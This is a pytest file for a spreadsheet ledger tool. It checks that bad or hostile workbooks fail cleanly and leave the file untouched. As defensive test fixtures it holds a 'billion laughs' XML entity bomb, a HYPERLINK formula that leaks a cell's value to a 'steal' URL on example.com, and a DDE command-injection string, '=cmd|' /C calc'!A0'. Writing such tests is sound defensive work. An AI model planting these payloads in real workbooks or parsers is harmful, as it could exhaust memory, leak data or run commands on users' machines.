"""The catalogue of bad workbooks: each gets its clear error, a non-zero exit, an unchanged file.

Every case is checked three ways: the headless backend raises the narrow
error (with the file and what was expected in its message), ``battle-ledger
run`` exits non-zero with one line on stderr, and the file's bytes are the
same afterwards (no ``.bak``, no temporary file left beside it).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from battle_ledger.rulesets.errors import BattleLedgerError
from battle_ledger.sheets.engine.headless import HeadlessBook
from battle_ledger.sheets.errors import (
    CellValueError,
    ColumnNotFoundError,
    NotAWorkbookError,
    TableNotFoundError,
    UnsafeWorkbookError,
    WorkbookLockedError,
    WorkbookSaveError,
    WrongKindError,
)
from battle_ledger.sheets.operations import run_on_file
from battle_ledger.xlfuncs.cli import cli
from tests.toybook import UNIT_COLUMNS, make_toy, register_toy_operations

_REPO = Path(__file__).resolve().parent.parent

_BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>
</worksheet>
"""


def _snapshot(path: Path) -> tuple[str, list[str]]:
    """The file's hash and the names beside it (a .bak or temp file would show)."""
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest, sorted(p.name for p in path.parent.iterdir())


def _cli_fails(path: Path, *args: str, parts: tuple[str, ...] = ()) -> str:
    result = CliRunner().invoke(cli, ["run", "lose-stands", str(path), *args])
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "Traceback" not in result.output
    for part in parts:
        assert part in lines[0]
    return lines[0]


# -- the workbooks ------------------------------------------------------------------------


def _not_a_zip(tmp: Path) -> Path:
    path = tmp / "notes.xlsx"
    path.write_text("Unit,Stands\n1st Line,6\n", encoding="utf-8")
    return path


def _truncated(tmp: Path) -> Path:
    good = make_toy(tmp / "whole.xlsx").read_bytes()
    good_path = tmp / "whole.xlsx"
    good_path.unlink()
    path = tmp / "cut.xlsx"
    path.write_bytes(good[: len(good) // 2])
    return path


def _zip_without_workbook(tmp: Path) -> Path:
    path = tmp / "parts.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("readme.txt", "a zip, but not a workbook")
    return path


def _another_kind(tmp: Path) -> Path:
    return make_toy(tmp / "victory.xlsx", kind="victory-table")


def _not_ours(tmp: Path) -> Path:
    path = tmp / "plain.xlsx"
    openpyxl.Workbook().save(path)
    return path


def _missing_table(tmp: Path) -> Path:
    path = make_toy(tmp / "t.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb["Army"]
    table = ws.tables["tbl_Units"]
    del ws.tables["tbl_Units"]
    table.displayName = table.name = "tbl_Troops"
    ws.add_table(table)
    wb.save(path)
    return path


def _missing_header(tmp: Path) -> Path:
    headers = tuple("Casualties" if h == "Lost" else h for h in UNIT_COLUMNS)
    return make_toy(tmp / "t.xlsx", headers=headers)


def _text_in_number_column(tmp: Path) -> Path:
    return make_toy(
        tmp / "t.xlsx", units=[("1st Line", "Infantry", 6, 1), ("2nd Line", "Infantry", "six", 0)]
    )


def _unknown_unit_type(tmp: Path) -> Path:
    return make_toy(
        tmp / "t.xlsx", units=[("1st Line", "Infantry", 6, 1), ("Smaug", "Dragons", 2, 0)]
    )


def _formula_in_name_column(tmp: Path) -> Path:
    path = make_toy(tmp / "t.xlsx")
    wb = openpyxl.load_workbook(path)
    wb["Army"]["B4"] = '=HYPERLINK("http://example.com/steal?"&Setup!B2,"1st Line")'
    wb.save(path)
    return path


def _xml_bomb(tmp: Path) -> Path:
    good = make_toy(tmp / "good.xlsx")
    path = tmp / "bomb.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = _BILLION_LAUGHS.encode()
            dst.writestr(item, data)
    good.unlink()
    return path


def _held_by_excel(tmp: Path) -> Path:
    path = make_toy(tmp / "ledger.xlsx")
    path.with_name("~$ledger.xlsx").write_bytes(b"\x0bSomeone Else")
    return path


# (name, builder, error class, words of the message, the CLI's extra options)
CATALOGUE: list[tuple[str, Callable[[Path], Path], type[BattleLedgerError], tuple[str, ...]]] = [
    ("not a zip", _not_a_zip, NotAWorkbookError, ("not a zip archive",)),
    ("truncated zip", _truncated, NotAWorkbookError, ("not a zip archive, or it is truncated",)),
    ("zip without a workbook", _zip_without_workbook, NotAWorkbookError, ("not a readable",)),
    ("another kind", _another_kind, WrongKindError, ("operation of toy-ledger", "victory-table")),
    ("not one of ours", _not_ours, WrongKindError, ("no _meta sheet",)),
    ("missing table", _missing_table, TableNotFoundError, ("no table 'tbl_Units'", "tbl_Troops")),
    (
        "missing header",
        _missing_header,
        ColumnNotFoundError,
        ("column headed 'Lost'", "Casualties"),
    ),
    (
        "text in a number column",
        _text_in_number_column,
        CellValueError,
        ("sheet Army", "table tbl_Units", "row 5", "column Stands", "'six'", "a whole number"),
    ),
    (
        "unknown unit type",
        _unknown_unit_type,
        CellValueError,
        ("'Dragons'", "row 5", "column Type", "Heavy cavalry"),
    ),
    (
        "formula in a name column",
        _formula_in_name_column,
        CellValueError,
        ("Unit column holds a formula", "row 4", "HYPERLINK", "text"),
    ),
    ("XML bomb", _xml_bomb, UnsafeWorkbookError, ("entities or a DTD", "XML bomb")),
    ("held by Excel", _held_by_excel, WorkbookLockedError, ("open in Excel", "~$ledger.xlsx")),
]


@pytest.fixture(autouse=True)
def _toy_operations() -> None:
    register_toy_operations()


@pytest.mark.parametrize(
    ("builder", "error", "parts"),
    [c[1:] for c in CATALOGUE],
    ids=[c[0] for c in CATALOGUE],
)
def test_bad_workbook(
    tmp_path: Path,
    builder: Callable[[Path], Path],
    error: type[BattleLedgerError],
    parts: tuple[str, ...],
) -> None:
    path = builder(tmp_path)
    before = _snapshot(path)
    with pytest.raises(error) as raised:
        run_on_file(path, "lose-stands", unit="1st Line", stands="1")
    message = str(raised.value)
    assert str(path) in message  # which file
    for part in parts:
        assert part in message
    assert _snapshot(path) == before
    line = _cli_fails(path, "--unit", "1st Line", parts=parts)
    assert str(path) in line
    assert _snapshot(path) == before


def test_openpyxl_parses_with_defusedxml() -> None:
    """The XML-bomb defence is defusedxml inside openpyxl: make sure it is on."""
    import defusedxml  # noqa: F401 - a declared dependency
    from openpyxl import DEFUSEDXML
    from openpyxl.xml import functions

    assert DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")


def test_a_file_held_by_excel_can_still_be_checked(tmp_path: Path) -> None:
    path = _held_by_excel(tmp_path)
    result = CliRunner().invoke(cli, ["check", str(path)])
    assert result.exit_code == 0, result.output


def test_formula_injection_through_the_cli_is_stored_as_text(tmp_path: Path) -> None:
    path = make_toy(tmp_path / "t.xlsx")
    name = "=cmd|' /C calc'!A0"
    result = CliRunner().invoke(cli, ["run", "add-unit", str(path), "--name", name])
    assert result.exit_code == 0, result.output
    cell = openpyxl.load_workbook(path)["Army"]["B6"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    # and it reads back as the name, not refused as a formula
    units = HeadlessBook(path).read_table("tbl_Units", {"Unit": str})
    assert units["Unit"].tolist()[-1] == name


# -- a read-only folder -------------------------------------------------------------------


def _run_cli_in_read_only_folder(folder: Path, args: list[str]) -> subprocess.CompletedProcess[str]:
    """Run the CLI where ``folder`` cannot be written to, for real.

    Not root: the folder is made read-only with chmod. Root ignores
    permissions, so the CLI runs in a private mount namespace where the
    folder is bind-mounted read-only (writes fail with EROFS); the rest of
    the system does not see that mount.
    """
    program = (
        "from tests.toybook import register_toy_operations; register_toy_operations(); "
        "from battle_ledger.xlfuncs.cli import main; main()"
    )
    cli_call = [sys.executable, "-c", program, *args]
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            return subprocess.run(cli_call, capture_output=True, text=True, timeout=120, cwd=_REPO)
        finally:
            folder.chmod(0o755)
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("running as root without unshare: cannot make a folder read-only for root")
    quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in cli_call)
    script = (
        f"mount --bind '{folder}' '{folder}' && mount -o remount,bind,ro '{folder}' "
        f"&& exec {quoted}"
    )
    probe = subprocess.run(
        [unshare, "-m", "sh", "-c", f"mount --bind '{folder}' '{folder}'"],
        capture_output=True,
        text=True,
    )
    if probe.returncode != 0:
        pytest.skip(f"running as root and mount namespaces are not allowed: {probe.stderr.strip()}")
    return subprocess.run(
        [unshare, "-m", "sh", "-c", script],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=_REPO,
    )


def test_read_only_folder(tmp_path: Path) -> None:
    """For real: the operation runs, the save is refused, the workbook stays as it was."""
    folder = tmp_path / "ro"
    folder.mkdir()
    path = make_toy(folder / "ledger.xlsx")
    before = _snapshot(path)
    done = _run_cli_in_read_only_folder(
        folder, ["run", "lose-stands", str(path), "--unit", "1st Line"]
    )
    assert done.returncode == 1, done.stdout + done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith("error: cannot save: ")
    assert "Read-only file system" in lines[0] or "Permission denied" in lines[0]
    assert str(path) in lines[0]
    assert _snapshot(path) == before


def test_read_only_folder_leaves_an_existing_workbook_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In-process, simulated: the folder refuses new files (what a read-only folder does)."""
    import tempfile

    path = make_toy(tmp_path / "ledger.xlsx")
    before = _snapshot(path)

    def refuse(*args: object, **kwargs: object) -> tuple[int, str]:
        raise PermissionError(13, "Permission denied", str(tmp_path))

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(WorkbookSaveError, match="Permission denied") as raised:
        run_on_file(path, "lose-stands", unit="1st Line")
    assert str(path) in str(raised.value)
    line = _cli_fails(path, "--unit", "1st Line", parts=("cannot save", "Permission denied"))
    assert str(path) in line
    monkeypatch.undo()
    assert _snapshot(path) == before
